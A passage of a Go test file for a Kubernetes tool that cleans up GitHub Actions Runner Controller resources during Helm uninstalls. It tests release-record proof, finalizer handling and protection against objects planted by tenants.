	if got := strings.Join(lines(NewPlan(&Survey{Record: withSets()}, ofRelease, History{})), "\n"); !strings.Contains(got, "is gone") || strings.Contains(got, "delete job") {
		t.Errorf("by hand there is no Job:\n%s", got)
	}
	gone := History{Deleted: map[string]types.UID{lastCRD: "1"}}
	if got := lines(NewPlan(&Survey{Record: withSets()}, asHook, gone)); got != nil {
		t.Errorf("this run has deleted it: %q", got)
	}
	if got := NewPlan(&Survey{Record: withSets(), CRDs: last}, stays(asHook), History{}).Kept; len(got) != 1 {
		t.Errorf("kept %d times", len(got))
	}
}

// What is said of a release that was named by hand is what its record says, and where
// there is none.
func TestNotesAboutANamedRelease(t *testing.T) {
	t.Parallel()
	deployed := uninstalling()
	deployed.Status = "deployed"
	for name, test := range map[string]struct {
		survey Survey
		want   []string
	}{
		"no record":               {Survey{ProofErr: release.ErrNotFound}, []string{"Helm has no record of release arc in namespace systems"}},
		"it could not be read":    {Survey{Unknown: []Unknown{{"the Helm release", errors.New("x")}}}, nil},
		"nobody uninstalls it":    {Survey{Record: deployed}, []string{"release arc in namespace systems is deployed: nobody is uninstalling it"}},
		"it is being uninstalled": {Survey{Record: uninstalling()}, nil},
	} {
		expectStrings(t, name, NewPlan(&test.survey, ofRelease, History{}).Notes, test.want...)
	}
	if got := NewPlan(&Survey{}, byHand, History{}).Notes; got != nil {
		t.Errorf("nothing is named: %q", got)
	}
}

// Where the proof may be is said of the controllers beside the hook only.
func TestWhereTheProofMayBe(t *testing.T) {
	t.Parallel()
	flux := func(c ARC, namespace string) ARC { c.Flux = namespace; return c }
	const hint = "this runs as a pre-delete hook of `helm uninstall`; by hand, use `arc-cleanup run --yes`"
	const storage = "Flux manages the controller systems/arc, and keeps Helm's record beside its HelmRelease unless told otherwise: set storageNamespace to flux-system"
	stored := asHook
	stored.StorageNamespace = "flux-system"
	for name, test := range map[string]struct {
		controller ARC
		options    Options
		want       []string
	}{
		"nobody says":                     {ctrl("systems/arc", ""), asHook, []string{hint}},
		"of this release":                 {ctrl("systems/arc", "", by("systems/arc")), asHook, []string{hint}},
		"Flux":                            {flux(ctrl("systems/arc", ""), "flux-system"), asHook, []string{storage, hint}},
		"Flux, which keeps it here":       {flux(ctrl("systems/arc", ""), "systems"), asHook, []string{hint}},
		"Flux, which was told":            {flux(ctrl("systems/arc", ""), "flux-system"), stored, []string{hint}},
		"Flux, of a controller elsewhere": {flux(ctrl("team/arc", "", by("x/arc")), "flux-system"), asHook, []string{hint}},
		"a release elsewhere": {ctrl("systems/arc", "", by("platform/arc")), asHook, []string{
			"the controller systems/arc is not in the namespace of its release (namespaceOverride): give the post-renderer --namespace=platform",
			"to uninstall it now: arc-cleanup run --release arc --release-namespace platform --controller-namespace systems && helm uninstall arc --namespace platform --no-hooks",
			hint,
		}},
	} {
		s := &Survey{ProofErr: release.ErrNotFound, Controllers: []ARC{test.controller}, Proven: map[types.UID]bool{test.controller.UID: true}}
		expectStrings(t, name, NewPlan(s, test.options, History{}).Refusals[0].Do, test.want...)
	}
}

// What others hold is left of this uninstall as far as its set or its release was seen.
func TestWhatIsHeldAndKnown(t *testing.T) {
	t.Parallel()
	seen := History{Sets: map[identity.Set]identity.Name{named("runners/set"): named("runners/gpu"), named("plain/set"): {}}}
	held := func(text string, mods ...with) *Object {
		return obj("secret "+text, append([]with{deleting, finalizers("example.com/keep")}, mods...)...)
	}
	const kept = "it is being deleted, and held by finalizers which are not ARC's: example.com/keep"
	for name, test := range map[string]struct {
		object  *Object
		custom  []*Object
		options Options
		history History
		want    []string
	}{
		"of a set that was seen":            {held("runners/s", of("runners/set")), nil, byHand, seen, []string{"await secret runners/s"}},
		"of one that is there":              {held("runners/s", of("runners/set")), []*Object{obj("ars runners/set", deleting, finalizers())}, byHand, History{}, []string{"await secret runners/s"}},
		"of one that is named":              {held("runners/s", of("runners/set")), nil, named1("set"), History{}, []string{"await secret runners/s"}},
		"of one that nobody has seen":       {held("runners/s", of("runners/other")), nil, byHand, seen, []string{kept}},
		"not being deleted":                 {obj("role runners/s", of("runners/set"), finalizers("example.com/keep")), nil, named1("other"), seen, nil},
		"out of reach":                      {held("team/s", of("team/set")), nil, named1("set"), seen, nil},
		"of a release that was seen":        {held("runners/s", by("runners/gpu")), nil, byHand, seen, []string{"await secret runners/s"}},
		"of that release, elsewhere":        {held("team/s", by("runners/gpu")), nil, byHand, seen, nil},
		"of another release":                {held("runners/s", by("runners/other")), nil, byHand, seen, nil},
		"of nobody, as a set that was seen": {held("plain/s"), nil, byHand, seen, nil},
	} {
		s := &Survey{Held: []*Object{test.object}, Custom: test.custom}
		var got []string
		plan := NewPlan(s, test.options, test.history)
		for _, step := range plan.steps(Collect) {
			got = append(got, fmt.Sprintf("%s %s", step.Action, ref(step.Object)))
		}
		for _, k := range plan.Kept {
			if k.Object == test.object {
				got = append(got, k.Why)
			}
		}
		expectStrings(t, name, got, test.want...)
	}
}

// That a run remembers it as its own is stronger than what else lives there, and no
// reason to take what another's owner has.
func TestWhatARunRemembersAsItsOwn(t *testing.T) {
	t.Parallel()
	s := &Survey{
		Controllers: []ARC{ctrl("team/b", "theirs")}, Custom: []*Object{obj("er theirs/r")},
		Dependents: []*Object{obj("secret runners/jit", owned("er runners/r")), obj("secret theirs/jit", owned("er theirs/r"))},
	}
	if got := lines(NewPlan(s, byHand, History{})); got != nil {
		t.Errorf("before: %q", got)
	}
	h := History{Ours: map[types.UID]bool{"secret runners/jit": true, "secret theirs/jit": true}}
	plan := NewPlan(s, byHand, h)
	expectStrings(t, "plan", lines(plan), "collect: delete secret runners/jit")
	if why := plan.Phases[0].Steps()[0].Why; why != ownerGone {
		t.Errorf("because %s", why)
	}
}

// Whose an object of a manifest is.
func TestIsTheObjectOfAManifest(t *testing.T) {
	t.Parallel()
	set := obj("ars runners/set", by("runners/gpu"))
	for name, test := range map[string]struct {
		object release.Object
		want   bool
	}{
		"it is":               {release.Object{APIVersion: "actions.github.com/v1alpha1", Kind: arc.AutoscalingRunnerSet, Namespace: "runners", Name: "set"}, true},
		"without a namespace": {release.Object{APIVersion: "actions.github.com/v1alpha1", Kind: arc.AutoscalingRunnerSet, Name: "set"}, true},
		"another name":        {release.Object{APIVersion: "actions.github.com/v1alpha1", Kind: arc.AutoscalingRunnerSet, Name: "other"}, false},
		"another namespace":   {release.Object{APIVersion: "actions.github.com/v1alpha1", Kind: arc.AutoscalingRunnerSet, Namespace: "team", Name: "set"}, false},
		"another kind":        {release.Object{APIVersion: "actions.github.com/v1alpha1", Kind: "EphemeralRunner", Name: "set"}, false},
		"another group":       {release.Object{APIVersion: "example.com/v1alpha1", Kind: arc.AutoscalingRunnerSet, Name: "set"}, false},
	} {
		if got := set.is(test.object); got != test.want {
			t.Errorf("%s: %t", name, got)
		}
	}
}

// Only records prove of what is still installed whose it is.
func TestWhatRecordsProve(t *testing.T) {
	t.Parallel()
	const manifest = "apiVersion: actions.github.com/v1alpha1\nkind: AutoscalingRunnerSet\nmetadata: {name: set}\n---\napiVersion: actions.github.com/v1alpha1\nkind: AutoscalingRunnerSet\nmetadata: {name: two}\n"
	items := append(whole(crdObjects()...), record("runners", "runners", "gpu", "deployed", manifest), record("team", "team", "x", "deployed", arcManifest))
	items = append(items, whole(obj("ars runners/set", by("runners/gpu")), obj("ars runners/two", by("runners/gpu")), obj("ars team/set", by("team/x")), obj("ars team/plain"))...)
	_, c := newAPI(t, items...)
	want := map[types.UID]bool{"ars runners/set": true, "ars runners/two": true}
	if diff := cmp.Diff(want, survey(t.Context(), c, byHand).Proven); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	deployments := record("ci", "ci", "rd", "deployed", "apiVersion: actions.summerwind.dev/v1alpha1\nkind: RunnerDeployment\nmetadata: {name: d}\n")
	_, c = newAPI(t, append(whole(append(legacyCRDs(), obj("rd ci/d", by("ci/rd")))...), deployments)...)
	if s := survey(t.Context(), c, legacyByHand); !s.Proven["rd ci/d"] {
		t.Errorf("legacy: %v", s.Proven)
	}
}

// Two releases of which each may be the hook's are a refusal, not a failure to read.
func TestTwoReleasesOfOneHook(t *testing.T) {
	t.Parallel()
	one, two := record("systems", "systems", "arc", "uninstalling", arcManifest), record("systems", "systems", "other", "uninstalling", arcManifest)
	raw, _ := json.Marshal(map[string]any{
		"name": "other", "namespace": "systems", "version": 1, "info": map[string]any{"status": "uninstalling"},
		"hooks": []any{map[string]any{"name": "arc-arc-cleanup", "kind": "Job"}},
	})
	text := base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString(raw)))
	two.rest = map[string]any{"kind": "Secret", "type": "helm.sh/release.v1", "data": map[string]any{"release": text}}
	_, c := newAPI(t, stuck(one, two)...)
	if p := Preview(t.Context(), c, asHook); p.Verdict() != Refused || !strings.Contains(p.Refusals[0].Message, "no proof that anything is being uninstalled") {
		t.Errorf("%q", lines(p))
	}
}

// What a tenant makes to look like a runner's, and holds, is the tenant's: the
// uninstall of everybody's ARC neither waits for it nor fails over it.
func TestWhatATenantHoldsIsNoResidue(t *testing.T) {
	t.Parallel()
	foreign := finalizers("example.com/keep")
	listeners := whole(obj("secret tenant/held", of("runners/set"), owned("al gone"), foreign, deleting))[0]
	listeners.owners[0].Kind = arc.AutoscalingListener
	for name, it := range map[string]item{
		"a listener's, of another's set":         listeners,
		"a runner's Secret":                      whole(obj("secret tenant/held", owned("er gone"), foreign))[0],
		"one that is being deleted":              whole(obj("secret tenant/held", owned("er gone"), foreign, deleting))[0],
		"one that names a set":                   whole(obj("secret tenant/held", of("tenant/set"), owned("er gone"), foreign, deleting))[0],
		"a Pod":                                  whole(obj("pod tenant/held", owned("er gone"), foreign, deleting))[0],
		"a Pod that takes a day to end":          whole(obj("pod tenant/held", owned("er gone"), deleting))[0],
		"the ServiceAccount of a listener":       whole(obj("sa tenant/held", owned("al gone"), foreign, deleting))[0],
		"a Secret of a set that another one has": whole(obj("secret tenant/held", of("runners/set"), owned("er gone"), foreign, deleting))[0],
	} {
		a, c := newAPI(t, stuck(it)...)
		r := Run(t.Context(), c, graced(byHand, time.Minute), quiet)
		if r.Verdict != Done || len(r.Kept) != 1 || r.Kept[0].Object.Name != "held" {
			t.Errorf("%s: %s", name, r.Text(10))
		}
		want := []string{ref(it.Object), "role runners/set-manager", "secret runners/theirs"}
		slices.Sort(want)
		if left := a.left(); !slices.Equal(left, want) {
			t.Errorf("%s: left are %q", name, left)
		}
	}
	// What a runner that was seen owned is not the word of whoever wrote it.
	_, c := newAPI(t, stuck(whole(obj("secret runners/jit", owned("er runners/r"), foreign))...)...)
	if r := Run(t.Context(), c, graced(byHand, 300*time.Millisecond), quiet); r.Verdict != Residue {
		t.Errorf("%s", r.Text(10))
	}
}

// A hook that finds no proof says where it may be. A release of another namespace, which
// the controller's annotations name, it has a person uninstall only where its record
// holds the controller; and a scale set's hook does not speak of the controller's at all.
func TestAReleaseElsewhereIsProved(t *testing.T) {
	t.Parallel()
	const uninstalls, override = "helm uninstall arc --namespace releases", "give the post-renderer --namespace=releases"
	overridden := deployment(ctrl("systems/arc", "", by("releases/arc")))
	holds := "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: arc, namespace: systems}\n"
	ofSetHook := Options{Scope: ScaleSet, Job: "gpu-arc-cleanup", RequireUninstalling: true, ReleaseNamespace: "runners", ControllerNamespaces: []string{"systems"}}
	besides := asHook
	besides.ControllerNamespaces = []string{"releases"}
	for name, test := range map[string]struct {
		options              Options
		items                []item
		override, uninstalls bool
	}{
		"its record holds it":         {asHook, []item{overridden, record("releases", "releases", "arc", "deployed", holds)}, true, true},
		"its record holds another":    {asHook, []item{overridden, record("releases", "releases", "arc", "deployed", arcManifest)}, true, false},
		"somebody's record says so":   {asHook, []item{overridden, record("tenant", "releases", "arc", "deployed", holds)}, true, false},
		"there is no record":          {asHook, []item{overridden}, true, false},
		"a scale set's hook":          {ofSetHook, []item{overridden, record("releases", "releases", "arc", "deployed", holds)}, false, false},
		"a controller in its own one": {besides, []item{deployment(ctrl("releases/arc", "", by("releases/arc"))), record("releases", "releases", "arc", "deployed", arcManifest)}, false, false},
	} {
		_, c := newAPI(t, append(whole(crdObjects()...), test.items...)...)
		text := Run(t.Context(), c, graced(test.options, ample), quiet).Text(10)
		if !strings.Contains(text, "no proof") || strings.Contains(text, override) != test.override || strings.Contains(text, uninstalls) != test.uninstalls {
			t.Errorf("%s: %s", name, text)
		}
	}
}

// A tenant who makes what looks like ARC's without end fails nobody's uninstall.
func TestWhatComesUpWithoutEnd(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		make func(i int) *Object
		want Verdict
	}{
		"orphans":         {func(i int) *Object { return obj(fmt.Sprint("secret tenant/n", i), owned("er gone")) }, Done},
		"protected":       {func(i int) *Object { return protected(fmt.Sprint("secret tenant/n", i)) }, Done},
		"of a known set":  {func(i int) *Object { return protected(fmt.Sprint("secret runners/n", i), of("runners/set")) }, Residue},
		"the same secret": {func(int) *Object { return protected("secret tenant/n") }, Residue},
	} {
		a, c := newAPI(t, stuck()...)
		lists := 0
		a.fault = func(request string) int {
			if request == "LIST secret" {
				lists++
				a.put(whole(test.make(lists))[0])
			}
			return 0
		}
		if r := Run(t.Context(), c, graced(byHand, time.Second), quiet); r.Verdict != test.want || (len(r.Kept) == 1) != (test.want == Done) {
			t.Errorf("%s: %s", name, r.Text(10))
		}
	}
}

// An object that says to be owned by what is in another namespace is not: it is neither
// waited for with that, nor a reason to begin anew.
func TestAnOwnerIsInTheNamespaceOfWhatItOwns(t *testing.T) {
	t.Parallel()
	elsewhere := owned("er runners/r")
	a, c := newAPI(t, stuck(whole(
		obj("secret tenant/held", elsewhere, finalizers("example.com/keep")), obj("pod tenant/held", elsewhere, finalizers("example.com/keep")), obj("pod tenant/plain", elsewhere))...)...)
	start := time.Now()
	r := Run(t.Context(), c, graced(byHand, time.Minute), quiet)
	if r.Verdict != Done || time.Since(start) > 30*time.Second || slices.Contains(a.left(), "er runners/r") {
		t.Errorf("%s after %s: %s", r.Verdict, time.Since(start), r.Text(10))
	}
	run := &run{client: c, options: byHand}
	_, c = newAPI(t, append(whole(crdObjects()...), whole(obj("er runners/r"))...)...)
	run.client = c
	if err := run.ownersGone(t.Context(), []Step{{Delete, obj("pod tenant/plain", elsewhere), ownerGone}}); err != nil {
		t.Error(err)
	}
}
